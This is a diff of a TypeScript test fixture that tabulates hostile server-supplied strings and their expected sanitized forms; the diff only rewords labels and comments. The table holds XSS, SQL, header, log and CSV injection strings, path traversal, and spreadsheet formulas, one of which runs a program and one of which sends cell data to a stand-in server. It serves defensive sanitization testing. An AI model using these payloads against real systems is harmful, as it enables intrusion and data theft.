@@ -1,12 +1,12 @@
-/** What a hostile server puts where its name, description, version, mode or format belongs. */
+/** A value that a hostile server sends as its name, description, version, mode or format. */
 export interface HostilePayload {
-  /** What it attacks. */
+  /** What the payload is or attacks. */
   readonly name: string;
   /** As the server sends it. */
   readonly sent: string;
-  /** What is kept of it as a text for people (name, description), cut at 200 characters. */
+  /** Its stored form as a text (name, description), cut at 200 characters. */
   readonly text: string;
-  /** What is kept of it as an identifier (version, mode, software, format), cut at 50 characters. */
+  /** Its stored form as an identifier (version, mode, software, format), cut at 50 characters. */
   readonly identifier: string;
 }
 
@@ -15,13 +15,13 @@ const payload = (name: string, sent: string, text: string, identifier: string): 
   return { name, sent, text, identifier };
 };
 
-/** Every payload, once: the tests of all formats, of the API and of the pages go through this table. */
+/** Every payload once. The tests of all formats, of the API and of the pages use this table. */
 export const hostilePayloads: readonly HostilePayload[] = [
   // Markup, for pages and feeds.
   same('a script element', '<script>alert(1)</script>'),
   same('the end of an attribute', '"><img src=x onerror=alert(1)>'),
   same('the end of a single-quoted attribute', "' onmouseover='alert(1)"),
-  same('a link that runs', '[x](javascript:alert(1))'),
+  same('a link with a script', '[x](javascript:alert(1))'),
   same('the end of a script element', '</script><svg onload=alert(1)>'),
   same('the end of a title', '</title></head><body onload=alert(1)>'),
   same('the end of a CDATA section', 'x]]><script>alert(1)</script>'),
@@ -33,9 +33,9 @@ export const hostilePayloads: readonly HostilePayload[] = [
   same('a template', `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`),
   same('the words of String.replace', "$& $1 $' $` $$"),
 
-  // Direction and looks.
+  // Direction and appearance.
   payload('a right-to-left override', 'moc\u202egpj.exe', 'moc gpj.exe', 'moc\ufffdgpj.exe'),
-  payload('isolates that are never closed', '\u2066a\u2067b\u2068c', 'a b c', '\ufffda\ufffdb\ufffdc'),
+  payload('unclosed isolates', '\u2066a\u2067b\u2068c', 'a b c', '\ufffda\ufffdb\ufffdc'),
   payload('an Arabic letter mark', 'a\u061cb', 'a b', 'a\ufffdb'),
   same('marks stacked on a letter', `Z${'\u0301'.repeat(40)}`),
   same('characters without width', 'a\u200bb\u2060c\u00add'),
@@ -44,17 +44,17 @@ export const hostilePayloads: readonly HostilePayload[] = [
   payload('NUL', 'a\u0000b', 'a b', 'a\ufffdb'),
   payload('terminal sequences', '\u001b[2J\u001b]0;x\u0007red', '[2J ]0;x red', '\ufffd[2J\ufffd]0;x\ufffdred'),
   payload('C1 controls', 'a\u0085b\u009b31mc\u007f', 'a b 31mc', 'a\ufffdb\ufffd31mc\ufffd'),
-  payload('nothing but controls', '\u0001\u0002\u0003', '', '\ufffd\ufffd\ufffd'),
-  payload('a header injected', 'x\r\nSet-Cookie: a=b', 'x Set-Cookie: a=b', 'x\ufffd\ufffdSet-Cookie: a=b'),
+  payload('only control characters', '\u0001\u0002\u0003', '', '\ufffd\ufffd\ufffd'),
+  payload('an injected header', 'x\r\nSet-Cookie: a=b', 'x Set-Cookie: a=b', 'x\ufffd\ufffdSet-Cookie: a=b'),
   payload(
-    'a log line injected',
+    'an injected log line',
     'x\n{"level":30,"msg":"y"}',
     'x {"level":30,"msg":"y"}',
     'x\ufffd{"level":30,"msg":"y"}',
   ),
-  same('a metric injected', '1"} 1 #\\n# HELP evil \\" {a="'),
+  same('an injected metric', '1"} 1 #\\n# HELP evil \\" {a="'),
 
-  // Unicode that formats choke on.
+  // Unicode that formats cannot represent.
   payload('half a surrogate pair', 'a\ud800b', 'a\ufffdb', 'a\ufffdb'),
   payload('the other half', '\udfff', '\ufffd', '\ufffd'),
   payload('line separators of JavaScript', 'a\u2028b\u2029c', 'a b c', 'a\ufffdb\ufffdc'),
@@ -63,9 +63,9 @@ export const hostilePayloads: readonly HostilePayload[] = [
   payload('a byte order mark', '\ufeffname', 'name', '\ufeffname'),
   same('an emoji with joiners', '👩‍🚀🏴‍☠️'),
 
-  // Cells that a spreadsheet runs.
+  // Cells that a spreadsheet evaluates.
   same('a formula that runs a program', "=cmd|'/C calc'!A0"),
-  same('a formula that sends cells away', '=HYPERLINK("https://e.example/?"&A1,"x")'),
+  same('a formula that sends cells to a server', '=HYPERLINK("https://e.example/?"&A1,"x")'),
   same('a cell that begins with a plus', '+1+cmd'),
   same('a cell that begins with a minus', '-2+3+cmd'),
   same('a cell that begins with an at sign', '@SUM(1+1)*cmd'),
@@ -73,35 +73,35 @@ export const hostilePayloads: readonly HostilePayload[] = [
   payload('a line end before a formula', '\r\n=1+1', '=1+1', '\ufffd\ufffd=1+1'),
   payload('a space before a formula', ' =1+1', '=1+1', ' =1+1'),
   same('a formula in full-width signs', '＝1＋1'),
-  same('a cell that is already made harmless', "'=1+1"),
+  same('a cell that is already escaped', "'=1+1"),
   same('a formula after a quote', '"=1+1"'),
 
   // Cells, rows and lines that end early.
   same('quotes and commas', 'a","b",""c",'),
-  payload('a row injected', 'a"\r\n"evil.example","b', 'a" "evil.example","b', 'a"\ufffd\ufffd"evil.example","b'),
-  same('semicolons and tabs written out', 'a;b\\tc\\'),
+  payload('an injected row', 'a"\r\n"evil.example","b', 'a" "evil.example","b', 'a"\ufffd\ufffd"evil.example","b'),
+  same('semicolons and escaped tabs', 'a;b\\tc\\'),
   same('the end of a JSON string', '"},{"domain":"evil.example"},{"x":"'),
 
-  // Names that mean something to the program.
+  // Names with a meaning in programs.
   same('the prototype of an object', '__proto__'),
   same('a method of every object', 'constructor'),
-  same('another one', 'toString'),
-  same('a path upwards', '../../../../etc/passwd'),
-  same('a path of Windows', 'C:\\Windows\\..\\CON'),
+  same('another method of every object', 'toString'),
+  same('a path to a parent folder', '../../../../etc/passwd'),
+  same('a Windows path', 'C:\\Windows\\..\\CON'),
   same('a file of the export', 'manifest.json'),
   same('SQL', "'); drop table domains; --"),
   same('the word for unknown', 'null'),
   same('a number', '1e999'),
-  same('a truth value', 'true'),
-  payload('nothing', '', '', ''),
-  payload('nothing but spaces', '   ', '', '   '),
+  same('a boolean', 'true'),
+  payload('an empty text', '', '', ''),
+  payload('only spaces', '   ', '', '   '),
 
   // Sizes.
   payload('200 KB', 'A'.repeat(200_000), 'A'.repeat(200), 'A'.repeat(50)),
-  payload('characters of two halves at the cut', '🎬'.repeat(400), '🎬'.repeat(200), '🎬'.repeat(50)),
+  payload('surrogate pairs at the length limit', '🎬'.repeat(400), '🎬'.repeat(200), '🎬'.repeat(50)),
 ];
 
-/** What no list of domains may bring into an export: none of it is a domain that can be visited, or it is one in another writing. */
+/** Entries of a hostile domain list: each is invalid, or another spelling of a valid domain. */
 export const hostileDomains: readonly string[] = [
   '../../etc/passwd',
   '..',
